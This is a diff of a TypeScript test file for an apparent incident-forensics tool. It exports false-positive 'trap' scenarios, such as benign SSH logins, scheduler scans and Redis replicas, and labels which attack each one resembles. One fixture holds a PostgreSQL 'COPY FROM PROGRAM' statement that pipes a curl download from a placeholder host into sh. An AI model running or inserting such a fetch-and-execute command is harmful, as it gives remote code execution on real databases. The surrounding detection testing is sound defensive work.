@@ -16,7 +16,7 @@ import {
   text,
 } from '../../src/incident/incident.fixture.ts';
 import type { LogEvent } from '../../src/model/facts/event.ts';
-import { play } from './scenario.ts';
+import type { Scenario } from './scenario.ts';
 
 const attacker = '203.0.113.66';
 const admin = '198.51.100.7';
@@ -39,9 +39,10 @@ const request = (when: string, method: string, target: string, status: number) =
     account: text('-'),
   });
 
-play([
+export const traps: readonly Scenario[] = [
   {
     name: "the administrator's own key, minutes before the first file",
+    looksLike: 'ssh-key',
     events: read(usual + accepted('2024-03-10 02:31:00', 'root', admin, mine)),
     scene: dropped,
     ways: [],
@@ -52,6 +53,7 @@ play([
   },
   {
     name: 'the backup of a neighbour comes every night, also in that one',
+    looksLike: 'lateral',
     events: read(
       Array.from({ length: 10 }, (_, day) =>
         accepted(
@@ -67,6 +69,7 @@ play([
   },
   {
     name: 'guessing for weeks without a success',
+    looksLike: 'ssh-brute-force',
     events: read(
       failures('2024-03-01 00:00:00', 2000, 400, [attacker, '192.0.2.4'], ['root', 'admin', 'test']),
     ),
@@ -79,6 +82,7 @@ play([
   },
   {
     name: 'a name of a user that looks like a success',
+    looksLike: 'ssh-brute-force',
     events: read(
       Array.from({ length: 30 }, (_, index) =>
         sshd(
@@ -92,6 +96,7 @@ play([
   },
   {
     name: 'scans that were answered with 404',
+    looksLike: 'scheduler',
     events: [
       '/v1/submissions/create',
       '/ws/v1/cluster/apps',
@@ -103,6 +108,7 @@ play([
   },
   {
     name: 'typing: five failures and the right password, then a colleague finds the miner',
+    looksLike: 'ssh-brute-force',
     events: read(
       failures('2024-03-10 02:30:00', 5, 10, [admin], ['root']) +
         accepted('2024-03-10 02:31:00', 'root', admin),
@@ -112,6 +118,7 @@ play([
   },
   {
     name: 'behind the bridge of Docker everybody is 172.17.0.1',
+    looksLike: 'ssh-brute-force',
     events: read(
       failures('2024-03-09 00:00:00', 300, 300, ['172.17.0.1'], ['root', 'admin', 'test']) +
         accepted('2024-03-10 02:31:00', 'root', '172.17.0.1'),
@@ -121,6 +128,7 @@ play([
   },
   {
     name: 'a container from 172.17.0.1: the door, and nobody named',
+    looksLike: 'docker-api',
     events: [
       event('2024-03-10 02:31:00', {
         what: 'container',
@@ -148,12 +156,14 @@ play([
   },
   {
     name: 'a privileged container of the owner, and a daemon that only listens here',
+    looksLike: 'docker-api',
     events: [],
     scene: { containers: [container('c0ffee', { accused: false })], ...dropped },
     ways: [],
   },
   {
     name: 'the clock was set back: the success is uncertain, and so is the way in',
+    looksLike: 'ssh-brute-force',
     events: read(
       failures('2024-03-10 02:00:00', 90, 20, [attacker], ['root', 'admin', 'pi']) +
         accepted('2024-03-10 02:31:00', 'root', attacker),
@@ -163,6 +173,7 @@ play([
   },
   {
     name: 'logs begin later than the infection: a guess today is not how it began',
+    looksLike: 'ssh-brute-force',
     events: read(
       failures('2024-03-10 02:00:00', 90, 20, [attacker], ['root', 'admin', 'pi']) +
         accepted('2024-03-10 02:31:00', 'root', attacker),
@@ -174,6 +185,7 @@ play([
   },
   {
     name: 'nothing in the logs, and the logs were emptied',
+    looksLike: 'ssh-brute-force',
     events: read(sshd('2024-03-15 00:00:00', 'Server listening on 0.0.0.0 port 22.')),
     scene: dropped,
     logs: [
@@ -197,6 +209,7 @@ play([
   },
   {
     name: 'lines of a shape that nobody vouches for carry no more than probable',
+    looksLike: 'scheduler',
     events: [service('2024-03-10 02:31:00', 'yarn', 'application', { from: attacker, account: 'dr.who' })],
     scene: { files: [left('/tmp/.y', '2024-03-10 02:31:30', 'yarn')] },
     logs: [
@@ -214,6 +227,7 @@ play([
   },
   {
     name: 'a message whose shape nobody vouches for, within a log whose shape is known',
+    looksLike: 'scheduler',
     events: [
       {
         ...service('2024-03-10 02:31:00', 'yarn', 'application', { from: attacker, account: 'dr.who' }),
@@ -225,6 +239,7 @@ play([
   },
   {
     name: 'an own replica, and saving all day',
+    looksLike: 'redis-replication',
     events: [
       service('2024-03-09 00:00:00', 'redis', 'replica-of', { from: '10.0.0.8' }),
       ...Array.from({ length: 200 }, (_, index) =>
@@ -236,6 +251,7 @@ play([
   },
   {
     name: 'loading dumps by COPY FROM PROGRAM, every night',
+    looksLike: 'database-exec',
     events: Array.from({ length: 10 }, (_, day) =>
       service(`2024-03-${String(day + 1).padStart(2, '0')} 02:31:00`, 'postgresql', 'statement', {
         account: 'etl',
@@ -247,6 +263,7 @@ play([
   },
   {
     name: 'statements that failed ran nothing',
+    looksLike: 'database-exec',
     events: [
       service('2024-03-10 02:31:00', 'postgresql', 'statement-failed', {
         detail: "COPY t FROM PROGRAM 'curl http://192.0.2.1|sh'",
@@ -257,6 +274,7 @@ play([
   },
   {
     name: 'an installation beside an attack elsewhere',
+    looksLike: 'supply-chain',
     events: [
       event('2024-03-10 02:31:00', {
         what: 'package',
@@ -271,6 +289,7 @@ play([
   },
   {
     name: 'anonymous asks a cluster and is refused',
+    looksLike: 'kubelet',
     events: [
       event('2024-03-10 02:31:00', {
         what: 'container',
@@ -295,6 +314,7 @@ play([
   },
   {
     name: "somebody else's jobs on the same scheduler",
+    looksLike: 'scheduler',
     events: Array.from({ length: 300 }, (_, index) =>
       service(`2024-03-${String(1 + (index % 10)).padStart(2, '0')} 02:31:00`, 'yarn', 'application', {
         account: 'alice',
@@ -306,6 +326,7 @@ play([
   },
   {
     name: 'configuration that an owner changed, and a job that he runs every day',
+    looksLike: 'broker',
     events: [
       service('2024-03-10 02:31:00', 'rocketmq', 'config-changed', {
         from: '10.0.0.7',
@@ -320,6 +341,7 @@ play([
   },
   {
     name: 'an administrator from a new address sets up an open Redis, and minutes later there is a dump for cron',
+    looksLike: 'ssh-brute-force',
     events: [
       ...read(
         failures(
@@ -339,6 +361,7 @@ play([
   },
   {
     name: "a colleague's key that is in authorized_keys, for the first time and from elsewhere",
+    looksLike: 'ssh-key',
     events: read(
       usual + accepted('2024-03-10 02:31:00', 'root', '192.0.2.44', 'SHA256:colleaguecolleague12'),
     ),
@@ -347,6 +370,7 @@ play([
   },
   {
     name: 'wtmp has the name of the address that auth.log has',
+    looksLike: 'ssh-brute-force',
     events: [
       ...read(usual + accepted('2024-03-10 02:31:00', 'root', admin)),
       event('2024-03-10 02:31:02', {
@@ -361,4 +385,4 @@ play([
     scene: dropped,
     ways: [],
   },
-]);
+];
